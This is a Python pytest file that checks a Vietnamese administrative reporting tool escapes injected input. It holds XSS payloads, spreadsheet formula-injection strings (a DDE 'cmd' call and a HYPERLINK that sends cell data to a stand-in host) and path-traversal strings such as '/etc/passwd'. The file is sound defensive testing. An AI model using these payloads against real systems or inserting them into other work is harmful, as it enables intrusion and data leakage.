"""Injection: text from the data is shown as text (HTML briefing), written as text (the units' workbook),
refused as a formula (an imported workbook), and never becomes a path outside the output folder."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io as _io
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from conftest import DATA, ROOT
from conftest_render import needs_chromium, offline_page

from cchc_analysis import cli, workbook
from cchc_analysis.domain import periods
from cchc_analysis.errors import CchcDataError, CchcParameterError
from cchc_analysis.ingest import contracts
from cchc_analysis.ingest.dataset import load_data
from cchc_analysis.workbook import layout

SCRIPT = "<script>window.__pwned=1</script>"
IMG = "<img src=x onerror=window.__pwned=1>"
SVG = '"><svg onload=window.__pwned=1>'

#: (file, key column, key, column, payload): what a hostile data folder holds, as people could type it.
PAYLOADS = [
    ("agencies.csv", "agency_id", "ban-dan-toc", "name", f"Ban Dân tộc {SCRIPT}"),
    ("agencies.csv", "agency_id", "ban-dan-toc", "short_name", f"Ban Dân tộc {IMG}"),
    ("units.csv", "unit_id", "van-phong", "name", f"Văn phòng {SVG}"),
    ("units.csv", "unit_id", "thanh-tra", "name", f"Thanh tra {IMG}"),
    ("framework/2022.csv", "code", "7.2.1", "name", f"Số TTHC trực tuyến {SCRIPT}"),
    ("framework/2022.csv", "code", "7.2.2", "name", f"Tỷ lệ hồ sơ {SVG}"),
    ("plan/tasks.csv", "task_id", "T7-05", "description", f"Nhiệm vụ {SCRIPT}"),
    ("progress/progress.csv", "task_id", "T7-05", "note", f"Ghi chú {IMG}"),
]
#: A task id that is itself hostile (task ids are free text): renamed in tasks and progress.
TASK_ID = ("T7-05", f"T7-05{IMG}")


def rewrite(path: Path, change) -> None:
    """Apply ``change(row)`` to every record of a CSV (a dict by column), keeping the header and order."""
    with open(path, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
        header = list(rows[0])
    for row in rows:
        change(row)
    buffer = _io.StringIO()
    writer = csv.DictWriter(buffer, header, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")


def hostile_data(target: Path) -> Path:
    shutil.copytree(DATA, target)
    for file, key, value, column, payload in PAYLOADS:
        rewrite(
            target / file,
            lambda row, key=key, value=value, column=column, payload=payload: (
                row.__setitem__(column, payload) if row[key] == value else None
            ),
        )
    for file in ("plan/tasks.csv", "progress/progress.csv"):
        rewrite(
            target / file, lambda row: row.__setitem__("task_id", TASK_ID[1]) if row["task_id"] == TASK_ID[0] else None
        )
    load_data(target)  # valid data: only the text is hostile
    return target


# ---------------------------------------------------------------------------
# (a) The briefing in a real browser
# ---------------------------------------------------------------------------


def browse(html: Path) -> dict:
    """Open ``html`` in Debian's Chromium (network blocked, every other request recorded) and report what
    a script could have done and what a reader sees."""
    dialogs: list[str] = []
    with offline_page(html) as (page, attempted):
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.reload(wait_until="load")  # with the dialog handler in place from the first script on
        page.wait_for_timeout(200)  # let an onerror/onload handler run, if one had been created
        seen = {
            "pwned": page.evaluate("typeof window.__pwned"),
            "text": page.inner_text("body"),
            "active": page.evaluate(
                "document.querySelectorAll('script, svg, iframe, object, embed, "
                'img:not([src^="data:"]), [onerror], [onload]\').length'
            ),
            "dialogs": dialogs,
        }
    seen["attempted"] = sorted(set(attempted))
    return seen


@pytest.fixture(scope="module")
def briefing_page(tmp_path_factory) -> tuple[Path, dict]:
    from cchc_analysis import render

    folder = tmp_path_factory.mktemp("injection")
    data = hostile_data(folder / "data")
    notebook = render.execute_notebook(
        ROOT / "notebooks" / "03_briefing.ipynb",
        folder / "briefing.ipynb",
        {"period": "2023-Q3", "agency": "ban-dan-toc", "data_dir": str(data)},
        timeout=300,
    )
    html = render.export_html(notebook, folder / "briefing.html", title="Báo cáo lãnh đạo")
    return html, browse(html)


@needs_chromium
def test_nothing_from_the_data_runs_in_the_briefing(briefing_page):
    html, seen = briefing_page
    assert seen["pwned"] == "undefined"
    assert seen["dialogs"] == []
    assert seen["active"] == 0  # no script, svg, foreign image or event handler made it into the page
    assert seen["attempted"] == []  # an <img src=x> would have requested file:///…/x
    source = html.read_text(encoding="utf-8")
    assert "<script" not in source.lower() and "<svg" not in source.lower()
    for payload in (SCRIPT, IMG, SVG):
        assert payload not in source  # only its escaped form (&lt;…&gt;) is in the page
    assert "&lt;img src=x onerror=window.__pwned=1&gt;" in source


@needs_chromium
@pytest.mark.parametrize(
    "payload",
    [f"Ban Dân tộc {SCRIPT}", f"Văn phòng {SVG}", f"Thanh tra {IMG}", f"Số TTHC trực tuyến {SCRIPT}", TASK_ID[1]],
)
def test_hostile_text_is_shown_literally(briefing_page, payload):
    _, seen = briefing_page
    assert payload in seen["text"]  # escaped: the reader sees the characters that were typed


# ---------------------------------------------------------------------------
# (b) The units' workbook: data written as text; formulas in a returned workbook refused
# ---------------------------------------------------------------------------

FORMULA_LIKE = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture(scope="module")
def formula_like_workbook(tmp_path_factory) -> tuple[Path, Path]:
    """Data whose texts start with = + - @ (a description, notes, a unit's and the agency's names), exported."""
    folder = tmp_path_factory.mktemp("formula_like")
    data = folder / "data"
    shutil.copytree(DATA, data)
    texts = iter(FORMULA_LIKE * 3)
    rewrite(
        data / "plan" / "tasks.csv",
        lambda row: row.__setitem__("description", next(texts)) if row["unit_id"] == "thanh-tra" else None,
    )
    notes = iter(FORMULA_LIKE * 10)
    rewrite(
        data / "progress" / "progress.csv",
        lambda row: row.__setitem__("note", next(notes)) if row["period"] == "2023-Q3" else None,
    )
    rewrite(
        data / "units.csv",
        lambda row: row.__setitem__("name", "=Thanh tra+1") if row["unit_id"] == "thanh-tra" else None,
    )
    rewrite(
        data / "agencies.csv",
        lambda row: row.__setitem__("name", "@Ban Dân tộc") if row["agency_id"] == "ban-dan-toc" else None,
    )
    return data, workbook.export_workbook(load_data(data), "2023-Q3", folder / "tien_do_q3.xlsx")


def test_text_that_looks_like_a_formula_is_written_as_text(formula_like_workbook):
    _, path = formula_like_workbook
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets and not any(re.search(rb"<(\w+:)?f[\s>/]", archive.read(name)) for name in sheets)
    book = openpyxl.load_workbook(path)
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    assert cell.data_type == "s", f"{sheet.title}!{cell.coordinate}"
                    found.append(cell.value)
    # every hostile text is in the book, as typed: descriptions and notes, the unit's and agency's names
    assert set(FORMULA_LIKE) <= set(found)
    assert {"=Thanh tra+1", "@Ban Dân tộc"} <= set(found)
    assert "=Thanh tra+1" in book.sheetnames  # the sheet's name is the unit's name, as text


def test_a_workbook_of_formula_like_texts_imports_back_as_the_same_texts(formula_like_workbook, tmp_path):
    data, path = formula_like_workbook
    copy = tmp_path / "data"
    shutil.copytree(data, copy)
    book = openpyxl.load_workbook(path)
    sheet = book["=Thanh tra+1"]
    row = next(r for r in range(layout.FIRST_ROW, sheet.max_row + 1) if sheet[f"A{r}"].value == "T2-02")
    sheet[f"I{row}"] = dt.date(2023, 9, 29)
    sheet[f"J{row}"].value = "@SUM(A1) vẫn là chữ"
    sheet[f"J{row}"].data_type = "s"
    book.save(tmp_path / "filled.xlsx")
    result = workbook.import_workbooks([tmp_path / "filled.xlsx"], copy)
    assert result.changed == ["T2-02 2023-Q3"]
    notes = load_data(copy).progress.set_index(["task_id", "period"])["note"]
    assert notes[("T2-02", "2023-Q3")] == "@SUM(A1) vẫn là chữ"


@pytest.fixture(scope="module")
def plain_q3(tmp_path_factory) -> tuple[Path, Path]:
    folder = tmp_path_factory.mktemp("plain")
    shutil.copytree(DATA, folder / "data")
    return folder / "data", workbook.export_workbook(load_data(folder / "data"), "2023-Q3", folder / "q3.xlsx")


@pytest.mark.parametrize(
    ("column", "formula"),
    [
        ("J", '=HYPERLINK("http://example.invalid","Bấm vào đây")'),  # a link that leaks on click
        ("H", "=+1+1"),  # Excel stores a typed +1+1 as the formula +1+1
        ("J", "=@SUM(A1)"),  # Excel 365's implicit intersection
        ("I", "=DATE(2023,9,20)"),  # a formula in the date column
        ("G", '=IF(TRUE,"Hoàn thành")'),
    ],
)
def test_a_formula_in_a_returned_workbook_is_refused_and_nothing_is_written(
    plain_q3, tmp_path, column, formula, capsys
):
    data, q3 = plain_q3
    book = openpyxl.load_workbook(q3)
    sheet = book["Thanh tra Ban"]
    sheet[f"{column}5"] = formula
    sheet["I5"] = sheet["I5"].value if column == "I" else dt.date(2023, 9, 20)
    bad = tmp_path / "bad.xlsx"
    book.save(bad)
    before = {p: p.read_bytes() for p in sorted(data.rglob("*")) if p.is_file()}
    bad_hash = hashlib.sha256(bad.read_bytes()).hexdigest()
    with pytest.raises(CchcDataError) as caught:
        workbook.import_workbooks([bad], data)
    assert caught.value.codes == ["formula"]
    assert f"Thanh tra Ban!{column}5" in str(caught.value) and "ô chứa công thức" in str(caught.value)
    assert cli.main(["workbook", "import", str(bad), "--data", str(data)]) == 2
    assert f"Thanh tra Ban!{column}5" in capsys.readouterr().err
    assert {p: p.read_bytes() for p in sorted(data.rglob("*")) if p.is_file()} == before
    assert hashlib.sha256(bad.read_bytes()).hexdigest() == bad_hash


# ---------------------------------------------------------------------------
# (c) Paths: ids, periods and output files stay where they belong
# ---------------------------------------------------------------------------

ESCAPES = [
    "..",
    "../..",
    "../etc",
    "..\\..\\Windows",
    "/etc/passwd",
    "C:\\Windows",
    "\\\\server\\share",
    "a/b",
    "a\\b",
    "~",
    "~root",
    "con",
    "NUL",
    "com1",
    "lpt9",
    "aux",
    ".hidden",
    "ban-dan-toc/../x",
    "ban-dan-toc\x00",
    "x" * 300,
]


@pytest.mark.parametrize("text", ESCAPES)
def test_an_id_can_never_name_a_path(text):
    with pytest.raises(ValueError):
        contracts.parse_id(text)


@pytest.mark.parametrize(
    "text",
    [
        "2023/../../x",
        "../2023-Q2",
        "2023-Q2/..",
        "/2023",
        "2023-Q2\\..",
        "C:\\2023",
        "2023-Q2\x00",
        "2023-Q2/con",
        "0000",
        "9999-Q4",
        "２０２３-Q2",
        "Quý 2/2023/..",
    ],
)
def test_a_period_can_never_name_a_path(text):
    with pytest.raises(CchcParameterError):
        periods.parse(text)


@pytest.mark.parametrize("text", ["2023-Q2", "Quý 2/2023", " 2023-h1 ", "Năm 2023", "6 tháng cuối năm 2023"])
def test_a_valid_period_id_is_a_plain_file_name(text, tmp_path):
    period = periods.parse(text)
    assert re.fullmatch(r"20\d\d(-[QH][1-4])?", period.id)
    assert (tmp_path / period.id).resolve().parent == tmp_path.resolve()


def test_workbook_export_writes_exactly_the_file_asked_for_and_nothing_else(tmp_path, capsys):
    data = tmp_path / "data"
    shutil.copytree(DATA, data)
    rewrite(
        data / "units.csv",
        lambda row: row.__setitem__("name", "../../Thanh tra\\Ban/..:*?[x]") if row["unit_id"] == "thanh-tra" else None,
    )
    out = tmp_path / "out"
    out.mkdir()
    assert cli.main(["workbook", "export", "2023-Q3", "--data", str(data), "--out", str(out / "q3.xlsx")]) == 0
    assert sorted(p.name for p in out.iterdir()) == ["q3.xlsx"]  # no temporary file left, nothing beside it
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "out"]
    names = openpyxl.load_workbook(out / "q3.xlsx").sheetnames
    assert all(not set("/\\:*?[]") & set(name) and len(name) <= 31 for name in names)


@pytest.mark.parametrize(
    ("out", "message"),
    [("q3.csv", "đuôi .xlsx"), ("q3", "đuôi .xlsx"), ("existing.xlsx", "đã có"), ("folder.xlsx", "đã có")],
)
def test_workbook_export_refuses_an_output_it_must_not_write(tmp_path, capsys, out, message):
    (tmp_path / "existing.xlsx").write_bytes(b"a unit's file")
    (tmp_path / "folder.xlsx").mkdir()
    before = sorted(p.name for p in tmp_path.iterdir())
    assert cli.main(["workbook", "export", "2023-Q3", "--data", str(DATA), "--out", str(tmp_path / out)]) == 2
    assert message in capsys.readouterr().err
    assert sorted(p.name for p in tmp_path.iterdir()) == before
    assert (tmp_path / "existing.xlsx").read_bytes() == b"a unit's file"


@pytest.mark.parametrize(
    ("cell", "value", "code"),
    [
        ("B3", "../../2023-Q3", "bad_period"),
        ("B3", "/etc/2023-Q3", "bad_period"),
        ("B4", "../ban-dan-toc", "unknown_agency"),
        ("B4", "..\\..\\con", "unknown_agency"),
    ],
)
def test_an_imported_workbook_cannot_steer_a_path(plain_q3, tmp_path, cell, value, code):
    data, q3 = plain_q3
    book = openpyxl.load_workbook(q3)
    book[layout.META_SHEET][cell] = value
    book.save(tmp_path / "bad.xlsx")
    before = {p: p.read_bytes() for p in sorted(data.rglob("*")) if p.is_file()}
    with pytest.raises(CchcDataError) as caught:
        workbook.import_workbooks([tmp_path / "bad.xlsx"], data)
    assert caught.value.codes == [code]
    assert {p: p.read_bytes() for p in sorted(data.rglob("*")) if p.is_file()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.xlsx"]


def test_a_dollar_sign_in_a_name_is_drawn_as_text(tmp_path):
    from cchc_analysis.present import score_review
    from cchc_analysis.present.charts import scores as charts

    data = tmp_path / "data"
    shutil.copytree(DATA, data)
    rewrite(
        data / "agencies.csv",
        lambda row: (
            row.__setitem__("short_name", "Cơ quan $\\frac{1}{0$ 01") if row["agency_id"] == "co-quan-01" else None
        ),
    )
    ctx = score_review.context(period="2023-Q3", agency="ban-dan-toc", data_dir=str(data))
    charts.peer_ranking(ctx).png()  # draws the figure as the page shows it
